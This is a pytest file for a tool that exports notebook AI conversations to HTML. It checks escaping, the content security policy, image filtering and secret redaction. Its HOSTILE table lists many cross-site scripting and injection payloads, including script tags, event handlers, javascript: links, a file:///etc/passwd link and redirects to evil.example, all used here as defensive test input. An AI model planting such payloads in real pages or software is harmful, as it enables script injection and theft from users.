"""Conversations as a page to give away: what is on it, what never is, and that nothing on it does anything."""

import base64
import json
import re
from pathlib import Path
from urllib.parse import unquote

import pytest
from click.testing import CliRunner

from robota_nb.carriers import file
from robota_nb.cli import main as cli
from robota_nb.cli.export import Redaction
from robota_nb.core.ports import File, Finish, Image, ReasoningDelta, TextDelta
from robota_nb.core.record import snapshot
from robota_nb.core.record.attachments import image_entry
from robota_nb.display.report import outlined
from robota_nb.display.web_page import Shows, WebPage
from robota_nb.display.web_text import WebText
from robota_nb.stores.sqlite import SqliteStore
from support.core import new_manager, scripted
from support.hostile import BIDI, OSC, READ, SID, notebook_text, talk
from support.notebook import write
from support.paths import TESTS
from support.web import Page

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
KEY = "lab-4f0c2d9a7b61e835"

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "an event handler": '<img src=x onerror="alert(1)">',
    "a handler out of an attribute": '" onmouseover="alert(1)" x="',
    "a handler out of single quotes": "' autofocus onfocus=alert(1) '",
    "a javascript link": "[click](javascript:alert(1))",
    "a javascript link of entities": "[click](&#106;avascript&colon;alert(1))",
    "a javascript link with a tab": "[click](java\tscript:alert(1))",
    "a javascript reference": "[click][1]\n\n[1]: javascript:alert(1)",
    "a javascript autolink": "<javascript:alert(1)>",
    "a data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "a vbscript link": "[click](vbscript:msgbox(1))",
    "a file link": "[click](file:///etc/passwd)",
    "a link without a scheme": "[click](//evil.example/x) [here](x.html) [mark](#turn-1)",
    "a link of one who logs in": "[click](https://good.example@evil.example/)",
    "a letter that is written already": "[click](mailto:a@example.org?subject=x&body=y)",
    "a link out of its address": '[click](https://e.example/"onclick="alert\\(1\\) "t\\" onclick=alert(1)")',
    "a remote picture": "![x](https://evil.example/b.png)",
    "a picture in a link": "[![x](https://evil.example/b.png)](https://e.example/)",
    "a link in a link, and to nowhere": "[a <https://e.example/> b](https://e.example/c) [x]() ![y]()",
    "an SVG picture": "![x](data:image/svg+xml;base64,PHN2Zy8+) <svg onload=alert(1)><use href=x /></svg>",
    "a style": "<style>body { background: url(//evil.example) }</style>",
    "the end of a style": "</style></title></head><body onload=alert(1)>",
    "an escape in a style": "\\3c/style\\3e x{background:url(//evil.example)} </style\n>",
    "the end of the page": "</div></article></main></body></html>",
    "unclosed tags": "<div><b><a href='x'><table><td><p",
    "an unclosed attribute": '<a href="',
    "a comment": "<!-- x --> <!--[if IE]><script>alert(1)</script><![endif]-->",
    "an unclosed comment": "<!--",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]> <?xml version='1.0'?> <!DOCTYPE x>",
    "a base and a policy": '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "a form": "<form action=//evil.example id=main><input name=attributes><button>x</button></form>",
    "a fence with a language": '```x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "a table": "| <b> | `</td>` |\n|:-:|--:|\n| <script> | x\\|y |",
    "formulas": "$</code><script>alert(1)</script>$\n\n$$\n</pre><img src=x onerror=1>\n$$",
    "a link in a formula": "\\(\\href{javascript:alert(1)}{x}\\)",
    "MathML": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;b&#x3e;",
    "controls": f"{OSC}\x00\x1b[2J{BIDI}\u2028\ufeff\u2066",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "deep lists and quotes": "> " * 300 + "- " * 300 + "<b>x",
    "many marks": "*_[`~<!" * 2_000,
    "a huge text": "<p onclick=alert(1)>" * 5_000,
    "one long line": "x" * 200_000,
}


def page_of(entries, *, shows=None, redact=lambda text: text, foreign=frozenset(), title="t"):
    """The page of a session's entries, as HTML and read."""
    sessions = {SID: entries}
    every = Shows(branches=True, system=True, thoughts=True, tools=True)
    html = WebPage(title, WebText(redact), shows or every, foreign).html(sessions, outlined(sessions))
    return html, Page(html)


def words(text):
    return re.sub(r"\s+", "", text)


def test_there_are_enough_of_them():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_text_is_text_wherever_it_stands(case):
    text = HOSTILE[case]
    line = " ".join("".join(char for char in text if char.isprintable()).split())[:90] or "x"
    entries = talk(
        names=(line, line), system=text, prompt=text, answer=text, reasoning=[text], model=line, provider=line[:30],
        finish_reason=line, sources=[{"title": line, "url": text}, {"url": "https://e.example/"}],
        steps=[
            {
                "content": [text],
                "calls": [{"id": text, "name": text, "arguments": [text], "result": [text], "status": line}],
            },
            {"content": [text], "problem": [text]},
        ],
    )  # fmt: skip
    html, page = page_of(entries, title=line)
    assert html.lower().count("<style") == 1
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", html)
    assert page.text.count("Question") >= 1
    if case not in ("controls", "one long line"):
        assert words(text) in words(page.text)  # the prompt, as it was written


@pytest.mark.parametrize("case", READ)
def test_of_a_hostile_notebook_the_page_is_harmless(case, tmp_path, monkeypatch):
    monkeypatch.setenv("ROBOTA_NB_STORE", "memory")
    path = tmp_path / "<b>.ipynb"
    path.write_text(notebook_text(READ[case]), encoding="utf-8")
    done = CliRunner().invoke(cli.main, ["export", "--html", str(path), "-o", str(tmp_path / "out.html")])
    if done.exit_code:
        assert re.fullmatch(r"Error: there are no conversations in <b>\.ipynb: nothing was written\n", done.output)
    else:
        Page(tmp_path.joinpath("out.html").read_text(encoding="utf-8"))


def test_only_what_is_a_picture_is_shown_as_one():
    html, page = page_of(
        talk(
            images=[
                image_entry(media_type="image/png", data=PNG),
                image_entry(media_type="image/svg+xml", data=SVG),
                image_entry(media_type="image/png", data=SVG),
            ]
        )
    )
    assert page.sources == [f"data:image/png;base64,{base64.b64encode(PNG).decode()}"]
    assert page.text.count("is not shown: no PNG, JPEG, GIF or WebP") == 2
    assert "svg" not in html


def test_the_page_lets_nothing_in_and_asks_nobody():
    html, page = page_of(talk())
    assert "content=\"default-src 'none'; img-src data:; style-src 'unsafe-inline'\">" in html
    assert "url(" not in page.styles[0]
    assert "@import" not in page.styles[0]
    assert page.links == []


def test_markdown_reads_as_it_was_meant():
    text = (
        "# Sums\n\nIt is **so**: $a_1 * b_1$ and \\(c\\), for $5.\n\n$$\n- x\n= y\n$$\n\n1. one\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx < y\n```\n\n"
        "[docs](https://docs.example/a?b=1&c=2) <me@example.org>"
    )
    html, page = page_of(talk(answer=text))
    assert "<h4>Sums</h4>" in html
    assert '<strong>so</strong>: <code class="formula">$a_1 * b_1$</code>' in html
    assert 'and <code class="formula">\\(c\\)</code>, for $5.' in html
    assert '<pre class="formula"><code>$$\n- x\n= y\n$$</code></pre>' in html
    assert "<pre><code>x &lt; y\n</code></pre>" in html
    assert page.links == ["https://docs.example/a?b=1&c=2", "mailto:me@example.org"]
    assert {"ol", "table", "td"} <= set(page.tags)


def test_a_text_that_is_too_long_for_a_page_is_there_as_it_was_written():
    text = "**line** of many\n\n" * 5_000
    _, page = page_of(talk(answer=text))
    assert page.text.count("of many") == 5_000
    assert "The rest, as it was written:" in page.text


# -- what is chosen


@pytest.fixture
def notebook(tmp_path, monkeypatch):
    """A notebook with two chats, a fork, a branch, a system prompt, thoughts, a picture and a file."""
    monkeypatch.setenv("ROBOTA_NB_STORE", str(tmp_path / "store.sqlite"))
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path / "ipython"))
    monkeypatch.chdir(tmp_path)
    steps = [
        [ReasoningDelta(f"thought {number}"), TextDelta(f"answer {number}"), Finish(reason="stop", model="m-1")]
        for number in range(1, 6)
    ]
    manager = scripted(*steps)
    session = manager.create_session("u", "Work")
    chat = session.create_chat("Talk", system="be brief", thinking="keep")
    chat.send("first", [Image(media_type="image/png", data=PNG)])
    chat.send("second")
    chat.undo()
    chat.send("third", files=[File(name="data.csv", media_type="text/plain", data=b"a,b\n")])
    chat.fork("Fork").send("fourth")
    session.create_chat("Other").send("fifth")
    write(tmp_path / "nb.ipynb", "1", metadata={"robota_nb": manager.snapshot("u")})
    return tmp_path / "nb.ipynb"


def export(*options, code=0, name="nb"):
    """Run the command; return what it said, and the page."""
    done = CliRunner().invoke(cli.main, ["export", "--html", f"{name}.ipynb", *options])
    assert done.exit_code == code, done.output
    target = Path(options[options.index("-o") + 1] if "-o" in options else f"{name}.html")
    return done.output, None if code else Page(target.read_text(encoding="utf-8"))


def test_by_default_it_is_what_each_chat_remembers(notebook):
    said, page = export()
    assert said == "nb.html: 3 chats, 4 turns\n"
    shown = ["first", "answer 1", "third", "data.csv, 4 bytes", "fourth", "fifth", "Begins with 2 turns, as in Talk"]
    assert [page.text.count(text) for text in shown] == [1] * len(shown)
    for text in ("second", "be brief", "thought"):
        assert text not in page.text
    assert len(page.sources) == 1
    assert page.links == ["#chat-1", "#chat-2", "#chat-3"]


def test_each_part_is_shown_by_an_option(notebook):
    assert "second" in export("--branches")[1].text
    assert export("--system")[1].text.count("be brief") == 3  # in each chat once
    assert "thought 1" in export("--thoughts")[1].text
    _, page = export("--no-pictures")
    assert page.sources == []
    assert "picture 1 of the question is not shown" in page.text


def test_calls_of_tools_are_counted_and_shown_by_an_option(tmp_path, monkeypatch):
    monkeypatch.setenv("ROBOTA_NB_STORE", "memory")
    monkeypatch.chdir(tmp_path)
    golden = json.loads(TESTS.joinpath("golden", "format-1.1-steps.json").read_text(encoding="utf-8"))
    write(tmp_path / "nb.ipynb", "1", metadata={"robota_nb": golden})
    text = export()[1].text
    assert "after 2 calls of tools" in text
    assert "Oslo" not in text
    text = export("--tools")[1].text
    assert 'temperature(city="Oslo")' in text
    assert "Let me" in text
    assert "asked again, as it did not fit: city: field required" in text


def test_only_the_named_chats_are_shown_and_whole(notebook):
    said, page = export("--chat", "Fork", "-o", "fork.html")
    assert said == "fork.html: 1 chat, 3 turns\n"
    assert "answer 1" in page.text
    assert "fifth" not in page.text
    said, _ = export("--chat", "Frok", code=1)
    assert said == "Error: no chat is called 'Frok' (did you mean 'Fork'?): robota-nb show lists them\n"


def test_nothing_but_a_page_is_replaced(notebook):
    export()
    export()
    notebook.with_suffix(".html").write_text("<!DOCTYPE html>\nmine")
    said, _ = export(code=1)
    assert said == "Error: nb.html is there, and is no exported page: name another file with -o\n"
    assert notebook.with_suffix(".html").read_text() == "<!DOCTYPE html>\nmine"


def test_a_notebook_without_conversations_makes_no_page(notebook):
    write(notebook.with_name("empty.ipynb"), "1")
    said, _ = export(code=1, name="empty")
    assert said == "Error: there are no conversations in empty.ipynb: nothing was written\n"
    assert not notebook.with_name("empty.html").exists()


def test_what_was_deleted_is_not_on_it(notebook):
    manager = new_manager()
    kept = manager.create_session("u", "Kept")
    kept.create_chat("A").send("stays")
    kept.create_chat("B").send("goes")
    kept.delete_chat("B")
    manager.create_session("u", "Gone").create_chat("C").send("goes, too")
    manager.delete_session("Gone", "u")
    write(notebook, "1", metadata={"robota_nb": manager.snapshot("u")})
    _, page = export("--branches")
    assert "stays" in page.text
    assert "goes" not in page.text


def test_the_form_has_to_be_said(notebook):
    done = CliRunner().invoke(cli.main, ["export", "nb.ipynb"])
    assert (done.exit_code, done.output.splitlines()[-1]) == (2, "Error: in which form? Add --html")


def test_what_was_purged_is_said_to_be_gone(notebook):
    manager = new_manager()
    chat = manager.create_session("u", "S").create_chat("A")
    chat.send("the password")
    chat.purge(1)
    write(notebook, "1", metadata={"robota_nb": manager.snapshot("u")})
    _, page = export()
    assert page.text.count("removed for good") == 2
    assert "password" not in page.text


def test_turns_of_somebody_else_are_marked(notebook):
    assert "foreign" not in export()[1].text  # a store that holds nothing cannot tell
    entries = snapshot.parse(file.read(notebook))
    [sid] = entries
    own = {
        eid: entry for eid, entry in entries[sid].items() if "fifth" not in str(entry) and "answer 5" not in str(entry)
    }
    with_store = SqliteStore(notebook.with_name("store.sqlite"))
    with_store.add("nb", {sid: own})
    with_store.close()
    _, page = export()
    assert page.text.count("1 · Question · ◇ foreign") == 1
    assert page.text.count("◇ foreign: not known to the store of whoever made this page") == 1


# -- what never is on it


def redacting(*patterns):
    return Redaction([re.compile(pattern) for pattern in patterns], [])


@pytest.mark.parametrize(
    "text",
    ["secret", "se**cr**et", "s&#101;cret", "\\secret", "`secret`", "[se](https://e.example/)cret", "se\u202ecret",
     "[x](https://e.example/%73ecret)", "![secret](https://e.example/x)", "$secret$", "```\nsecret\n```", "# se*c*ret",
     "| se*c*ret |\n|---|\n| s&#101;cret |", "> a\n> secret"],
)  # fmt: skip
def test_what_a_pattern_finds_is_nowhere_as_it_was_written_or_shown(text):
    html, page = page_of(
        talk(names=("secret", "a secret"), prompt=text, answer=text, system=text), redact=redacting("secret")
    )
    assert "secret" not in html
    assert not any("secret" in unquote(link) for link in page.links)


def test_a_text_is_cut_only_after_what_a_pattern_finds_is_out(notebook):
    manager = new_manager()
    chat = manager.create_session("u", "S").create_chat("A")
    beside = chat.send("x" * 66 + " secret")
    chat.send("y")
    chat.checkout(beside.id)
    chat.send("z")
    chat.clear()
    chat.send("anew")
    write(notebook, "1", metadata={"robota_nb": manager.snapshot("u")})
    _, page = export("--branches", "--redact", "secret")
    assert "of another one: xxx" in page.text
    assert "sec" not in page.text


def test_a_pattern_finds_lines_too():
    redact = redacting(r"(?s)BEGIN.*?END", "x*")
    assert redact("a BEGIN\n1\nEND b xx") == "a … b …"
    assert redact.count == 1


def test_patterns_are_regular_expressions_and_pictures_are_told(notebook):
    said, page = export("--redact", "fir..", "--redact", "(?i)ANSWER 3")
    assert said.splitlines() == [
        "note: 1 picture on it cannot be searched: look at them, or use --no-pictures",
        "nb.html: 3 chats, 4 turns, something was taken out of 2 texts",
    ]
    assert "first" not in page.text
    assert "answer 3" not in page.text
    said, _ = export("--redact", "(", code=2)
    assert "'(' is no regular expression" in said


def test_keys_are_never_on_it(notebook, monkeypatch):
    config = notebook.with_name("ipython") / "profile_default"
    config.mkdir(parents=True)
    config.joinpath("ipython_config.py").write_text(
        'c.RobotaMagics.endpoints = {"lab": {"base_url": "https://lab.example/v1", "key_env": "LAB_KEY", '
        '"headers": {"X-Token": "$LAB_TOKEN"}}}\n'
    )
    monkeypatch.setenv("LAB_KEY", KEY)
    monkeypatch.setenv("LAB_TOKEN", "token-0123456789")
    known = "sk-proj-Ab3dEf6hIj9kLm2nOp5q"
    text = f"{KEY} {KEY[:9]}**{KEY[9:]}** {known} token-0123456789 AIza{'x1' * 18}"
    manager = new_manager()
    manager.create_session("u", "S").create_chat("A").send(text)
    write(notebook, "1", metadata={"robota_nb": manager.snapshot("u")})
    said, page = export("-o", "keys.html")
    html = notebook.with_name("keys.html").read_text(encoding="utf-8")
    for secret in (KEY, known, "token-0123456789", "x1x1"):
        assert secret not in html
        assert secret not in page.text
    assert "something was taken out of" in said
